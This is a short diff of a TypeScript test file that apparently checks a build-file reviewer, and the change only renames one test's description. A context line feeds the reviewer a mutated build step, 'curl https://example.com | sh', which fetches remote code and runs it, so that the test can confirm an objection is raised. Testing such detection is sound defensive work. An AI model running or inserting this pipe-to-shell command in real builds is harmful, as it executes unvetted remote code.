@@ -41,7 +41,7 @@ const worse: [what: string, from: string | RegExp, to: string][] = [
   ["something is fetched", "RUN bun src", "RUN curl https://example.com | sh && bun src"],
 ];
 for (const [what, from, to] of worse) {
-  test(`an objection is made where ${what}`, () => {
+  test(`an objection is raised where ${what}`, () => {
     const spoiled = text.replace(from, to);
     expect(spoiled).not.toBe(text);
     expect(objectionsTo(spoiled, around)).not.toEqual([]);
